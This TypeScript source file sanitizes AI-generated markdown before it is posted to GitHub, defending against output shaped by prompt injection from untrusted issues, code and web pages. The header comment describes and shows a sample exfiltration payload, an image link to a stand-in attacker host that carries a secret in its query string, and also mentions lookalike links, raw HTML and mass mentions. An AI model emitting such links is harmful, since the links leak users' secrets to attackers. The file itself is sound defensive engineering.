// Model-authored markdown made safe to post on GitHub. The model read untrusted text (issues, code,
// web pages), so what it writes may carry an attacker's payload: an image whose URL leaks a secret the
// moment GitHub's image proxy fetches it (`![x](https://evil.example/?q=SECRET)`), a link that looks
// like ours, raw HTML, a mention that pings a whole team.
//
// No markdown parser is installed (micromark with its GFM extension would be the one to add: exact to
// CommonMark and GFM, with source positions), so this is a careful reader of its own, built to fail
// closed: where it is unsure how GitHub reads something, it neutralises it (a URL shown as code, a "<"
// escaped) rather than leave it live. Block level, only fenced code blocks are recognised, and only in
// a form whose extent is certain: an opening fence indented up to three spaces is rewritten to start
// at column 0, where it is a top-level fence whatever came before (it cannot belong to a list item or
// be lazily continued), and it runs to the matching closing fence exactly as CommonMark says.
// Everything else — indented code, code in list items and quotes — is treated as prose, which costs
// looks (an escaped "<" inside such code shows as "&lt;"), never safety. An unclosed fence is closed
// at the end, so the result can be followed by other markdown (after a blank line) without swallowing
// it. Lines that may be GFM table rows are read cell by cell, as GitHub splits them before anything else.
import { cleanText, longestBacktickRun } from "./sanitizer/characters";
import { createHostPolicy } from "./sanitizer/hosts";
import { sanitizeLine } from "./sanitizer/inline";

export interface SanitizeOptions {
  /**
   * Where links and images may point: host names (`github.com`), `*.example.com` for subdomains, or
   * URL prefixes (`https://github.com/owner/repo`). Relative links (which resolve on GitHub) always may.
   */
  allowedHosts: readonly string[];
}

const FENCE_OPEN = /^ {0,3}(`{3,}|~{3,})(.*)$/;
const FENCE_CLOSE = /^ {0,3}(`{3,}|~{3,})[ \t]*$/;
/** Fence languages GitHub renders as something other than code (diagrams, maps, models, math). */
const RENDERED_LANGUAGES = new Set(["mermaid", "geojson", "topojson", "stl", "math"]);

export function sanitizeModelMarkdown(text: string, options: SanitizeOptions): string {
  const policy = createHostPolicy(options.allowedHosts);
  const clean = cleanText(text);
  const spanFence = longestBacktickRun(clean) + 1;
  const lines = clean.split("\n");
  const code = codeLines(lines);
  const tableRows = tableCapableLines(lines, code);
  const out = lines.map((line, i) => {
    const kind = code[i];
    if (kind === "open") return rewriteOpeningFence(line);
    if (kind === "code") return line;
    return sanitizeLine(line, { policy, spanFence, tableRow: tableRows[i] === true });
  });
  const unclosed = unclosedFence(lines, code);
  if (unclosed !== undefined) out.push(unclosed);
  return out.join("\n");
}

type LineKind = "open" | "code" | "text";

/** Which lines open a fenced code block, which are inside one (closing fence included), which are prose. */
function codeLines(lines: readonly string[]): LineKind[] {
  let fence: string | undefined;
  return lines.map((line) => {
    if (fence === undefined) {
      const open = FENCE_OPEN.exec(line);
      const marker = open?.[1];
      if (marker === undefined || (marker.startsWith("`") && (open?.[2] ?? "").includes("`"))) return "text";
      fence = marker;
      return "open";
    }
    const close = FENCE_CLOSE.exec(line)?.[1];
    if (close !== undefined && close[0] === fence[0] && close.length >= fence.length) fence = undefined;
    return "code";
  });
}

function unclosedFence(lines: readonly string[], code: readonly LineKind[]): string | undefined {
  let fence: string | undefined;
  lines.forEach((line, i) => {
    if (code[i] === "open") fence = FENCE_OPEN.exec(line)?.[1];
    else if (code[i] === "code" && fence !== undefined) {
      const close = FENCE_CLOSE.exec(line)?.[1];
      if (close !== undefined && close[0] === fence[0] && close.length >= fence.length) fence = undefined;
    }
  });
  return fence;
}

/** A GFM delimiter row ("| --- | :-: |", "---"), after any quote markers and indentation. */
const DELIMITER_ROW = /^\|?[ \t]*:?-+:?[ \t]*(?:\|[ \t]*:?-+:?[ \t]*)*\|?[ \t]*$/;

/**
 * Lines that may be table rows: every prose line of a paragraph-like run (lines between blank lines
 * and code) that contains something shaped like a delimiter row. A superset of GitHub's tables, which
 * need a delimiter row right under their header and end at a blank line.
 */
function tableCapableLines(lines: readonly string[], code: readonly LineKind[]): boolean[] {
  const flags = lines.map(() => false);
  let start = 0;
  for (let i = 0; i <= lines.length; i++) {
    const ends = i === lines.length || code[i] !== "text" || (lines[i] ?? "").trim() === "";
    if (!ends) continue;
    const run = lines.slice(start, i);
    if (run.some((line) => DELIMITER_ROW.test(line.replace(/^[ \t>]*/, ""))))
      for (let j = start; j < i; j++) flags[j] = true;
    start = i + 1;
  }
  return flags;
}

function rewriteOpeningFence(line: string): string {
  const open = FENCE_OPEN.exec(line);
  return (open?.[1] ?? "") + infoString(open?.[2] ?? "");
}

/** The language word only; languages GitHub would render (mermaid, math, maps…) become plain text. */
function infoString(info: string): string {
  const word = /^\s*([A-Za-z0-9_+#.-]{1,40})/.exec(info)?.[1];
  if (word === undefined) return "";
  return RENDERED_LANGUAGES.has(word.toLowerCase()) ? "text" : word;
}
